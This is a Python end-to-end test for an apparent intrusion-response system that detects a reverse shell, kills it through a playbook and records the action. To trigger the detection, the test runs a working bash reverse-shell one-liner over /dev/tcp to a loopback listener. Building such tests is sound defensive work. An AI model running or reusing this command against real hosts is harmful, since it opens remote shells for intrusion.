"""Response end to end on a demo node: a reverse shell is seen by the kernel,
alerted by the hive, killed by the playbook through the agent."""

import socket
import subprocess
import threading
import time

import pytest

from hive import Store
from hive.playbook import Records
from tests.kmod.conftest import kernel

from .hosts import wait_until
from .nodes import free_port

pytestmark = kernel


@pytest.fixture
def demo(tmp_path, start_node):
    node = start_node("demo", tmp_path, "--listen", f"tcp://127.0.0.1:{free_port()}")
    node.wait_ready(timeout=120)
    yield node
    assert node.stop() == 0


def listener():
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    conns = []
    threading.Thread(target=lambda: conns.append(srv.accept()), daemon=True).start()
    return srv, conns


def test_reverse_shell_is_killed_end_to_end(demo, tmp_path):
    srv, conns = listener()
    port = srv.getsockname()[1]
    t0 = time.monotonic()
    shell = subprocess.Popen(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"],
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        code = shell.wait(timeout=20)
    finally:
        shell.kill()
    elapsed = time.monotonic() - t0
    print(f"\nreverse shell: exec to death {elapsed * 1000:.0f} ms")
    assert code == -9  # SIGKILL from the executor
    assert conns, "the shell never reached its listener: the test proves nothing"
    srv.close()

    def killed():
        return [a for a in Records(Store(tmp_path / "hive.db").db).actions()
                if a.playbook == "reverse-shell" and a.action == "kill_process"]
    wait_until(lambda: killed() and killed()[0].state == "done", what="the kill recorded")
    action = killed()[0]
    assert action.mode == "auto" and action.agent
    # The address is the hive's own (demo on loopback): never blocked.
    blocks = [a for a in Records(Store(tmp_path / "hive.db").db).actions()
              if a.playbook == "reverse-shell" and a.action == "block_connect"]
    assert blocks and blocks[0].state == "refused" and "hive" in blocks[0].result
